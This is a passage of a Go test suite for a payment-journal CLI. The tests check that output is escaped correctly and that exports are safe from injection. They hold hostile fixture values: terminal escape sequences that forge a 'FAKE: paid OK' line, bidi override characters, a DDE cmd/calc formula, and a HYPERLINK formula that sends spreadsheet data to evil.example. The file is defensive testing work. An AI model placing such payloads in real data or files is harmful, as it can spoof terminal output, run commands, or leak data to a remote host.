	if !strings.Contains(out, `\x1b[32mpaid\x1b[0m`) || !strings.Contains(out, `\x09pm-h3`) {
		t.Errorf("list does not show the escapes visibly:\n%s", out)
	}

	// show: every field and every event.
	out = fx.mustRun("show", "h1")
	clean("show h1", out)
	for _, want := range []string{
		"result code:       " + `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` + "\n",
		"reason:            " + `\x1b[32mpaid\x1b[0m` + "\n",
		"check:             " + `=HYPERLINK("http://evil.example/?"&A1,"click")` + "\n", // a terminal runs no formula
		`PayMaster says Rejected/\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("show h1: missing %q in\n%s", want, out)
		}
	}
	out = fx.mustRun("show", "h3")
	clean("show h3", out)
	for _, want := range []string{
		"error:             " + `cancel_failed: \u202egnp.exe\u2066\u009b31m\x7f` + "\n",
		"paymaster id:      " + `\x09pm-h3` + "\n",
		"qr payload:        https://qr.nspk.ru/" + `\x1b]0;pwned\x07` + "\n",
		`  \x1b[8m  \u202egnp.exe\u2066\u009b31m\x7f` + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("show h3: missing %q in\n%s", want, out)
		}
	}

	// JSON stays exact: valid, every value decodes to what was recorded,
	// and no raw control, C1 or bidi character is in the bytes.
	out = fx.mustRun("show", "h3", "--json")
	clean("show --json", out)
	var v struct {
		Payment plugin.Payment `json:"payment"`
		Events  []plugin.Event `json:"events"`
	}
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatal(err, out)
	}
	if v.Payment.Error == nil || v.Payment.Error.Message != evilBidi || v.Payment.PayMasterID != "\tpm-h3" ||
		v.Payment.PayMasterStatus != "\rSettled" || len(v.Events) != 2 || v.Events[1].Detail != evilBidi || v.Events[1].Actor != "\x1b[8m" {
		t.Errorf("show --json does not hold the recorded values: %+v", v)
	}
	out = fx.mustRun("list", "--json")
	clean("list --json", out)
	var ps []plugin.Payment
	if err := json.Unmarshal([]byte(out), &ps); err != nil {
		t.Fatal(err, out)
	}
	got := map[string]string{}
	for _, p := range ps {
		got[p.ID] = p.CheckID + "|" + p.OrderNo + "|" + p.ResultCode + "|" + string(p.Reason)
	}
	if got["h1"] != `=HYPERLINK("http://evil.example/?"&A1,"click")|@SUM(1+1)*cmd|' /C calc'!A0|`+evilCode+"|\x1b[32mpaid\x1b[0m" ||
		got["h4"] != "-5|\t=1+1||" {
		t.Errorf("list --json values changed: %q", got)
	}

	// XLSX: a spreadsheet cell is never a formula there, so the text is as
	// recorded but for the escapes.
	path := filepath.Join(t.TempDir(), "hostile.xlsx")
	fx.mustRun("export", "--format", "xlsx", "-o", path)
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(export.Sheet)
	if err != nil || len(rows) != 5 {
		t.Fatalf("xlsx rows %d, %v", len(rows), err)
	}
	for r, row := range rows {
		for c, cell := range row {
			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if why := rawControl(cell); why != "" || strings.Contains(cell, "\n") {
				t.Errorf("xlsx %s = %q holds a raw %s", name, cell, why)
			}
			if formula, _ := f.GetCellFormula(export.Sheet, name); formula != "" {
				t.Errorf("xlsx %s is a formula %q", name, formula)
			}
		}
	}
	if rows[1][4] != `=HYPERLINK("http://evil.example/?"&A1,"click")` || rows[1][14] != `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` {
		t.Errorf("xlsx h1: check %q, result code %q", rows[1][4], rows[1][14])
	}
}

// TestJournalActions_TerminalEscapes: PayMaster answers with a result code
// and an order number holding terminal escapes; mark-paid's refusal,
// mark-not-paid's report, show and reconcile print them visibly, never raw.
func TestJournalActions_TerminalEscapes(t *testing.T) {
	f := newActFixture(t)
	code := evilCode + "\u009b2J\u202e"
	declined := f.plant("301", 15000, plugin.StateNeedsAttention, true)
	if err := f.sb.Decline(declined.PayMasterID, code); err != nil {
		t.Fatal(err)
	}
	clean := func(what, out string) {
		t.Helper()
		if why := rawControl(out); why != "" {
			t.Errorf("%s prints a raw %s:\n%q", what, why, out)
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(line, "FAKE") {
				t.Errorf("%s: a forged line %q", what, line)
			}
		}
	}
	visible := `Rejected/\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a\u009b2J\u202e`

	out, err := f.run("journal", "mark-paid", declined.ID, "--reason", "test")
	wantRefused(t, out, err, "not marked paid", visible)
	clean("mark-paid refused", out)

	out, err = f.run("journal", "mark-not-paid", declined.ID, "--reason", "test", "--by", "ivanov\x1b[8m")
	if err != nil {
		t.Fatal(err, out)
	}
	clean("mark-not-paid", out)
	if !strings.Contains(out, visible) || !strings.Contains(out, `by ivanov\x1b[8m`) {
		t.Errorf("mark-not-paid does not show what PayMaster said visibly:\n%s", out)
	}
	if got := f.get(declined.ID); got.ResultCode != code {
		t.Errorf("journal result code %q, want the raw %q: nothing recorded is lost", got.ResultCode, code)
	}
	out, err = f.run("journal", "show", declined.ID)
	if err != nil {
		t.Fatal(err, out)
	}
	clean("show", out)
	if !strings.Contains(out, `\x1b]0;pwned\x07`) {
		t.Errorf("show does not show the result code visibly:\n%s", out)
	}

	// reconcile: a status mismatch quoting the result code, and a payment
	// at PayMaster only whose order number holds escapes.
	attention := f.plant("302", 15000, plugin.StateNeedsAttention, true)
	if err := f.sb.SetStatus(attention.PayMasterID, "Pending\x1b[2K"); err != nil {
		t.Fatal(err)
	}
	orphan, err := f.gw.CreatePayment(context.Background(), plugin.CreateRequest{OrderNo: "K07-303\x1b[31m\u202e-1", Amount: 30000,
		Description: "test 303", Expires: time.Now().Add(30 * time.Minute), IdempotencyKey: "idem-303"})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.sb.Pay(orphan.ID); err != nil {
		t.Fatal(err)
	}
	from := time.Now().Add(-time.Hour).Format(time.RFC3339)
	to := time.Now().Add(time.Hour).Format(time.RFC3339)
	out, err = f.run("journal", "reconcile", "--from", from, "--to", to)
	if err == nil {
		t.Fatalf("reconcile found no differences:\n%s", out)
	}
	clean("reconcile", out)
	for _, want := range []string{`Pending\x1b[2K`, `K07-303\x1b[31m\u202e-1`} {
		if !strings.Contains(out, want) {
			t.Errorf("reconcile: missing %q in\n%s", want, out)
		}
	}
	out, _ = f.run("journal", "reconcile", "--from", from, "--to", to, "--json")
	js := out[:strings.LastIndex(out, "\nerror: ")]
	clean("reconcile --json", js)
	r := parseRecon(t, js)
	orders := map[string]bool{}
	for _, d := range r.Differences {
		orders[d.OrderNo] = true
	}
	if !orders[orphan.OrderNo] || !orders[attention.OrderNo] {
		t.Errorf("reconcile --json orders %v: want the raw %q and %q", orders, orphan.OrderNo, attention.OrderNo)
	}
}

// TestJournalRead_DataDirFlag: list, show and export find the journal by
// --data-dir (as every command spells it) and still by --data_dir.
func TestJournalRead_DataDirFlag(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	empty := filepath.Join(t.TempDir(), "sbpd.yaml")
	if err := os.WriteFile(empty, []byte("till:\n  id: K07\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, flag := range []string{"--data-dir", "--data_dir"} {
		for _, args := range [][]string{{"list", "--json"}, {"show", "p1"}, {"export", "--format", "csv"}} {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			o, e, done := runCLI(ctx, append([]string{"--config", empty, "journal"}, append(args, flag, fx.dataDir)...)...)
			if err := <-done; err != nil || !strings.Contains(o.String(), "p1") {
				t.Errorf("%v %s: %v\n%s%s", args, flag, err, o, e)
			}
			cancel()
		}
	}
}
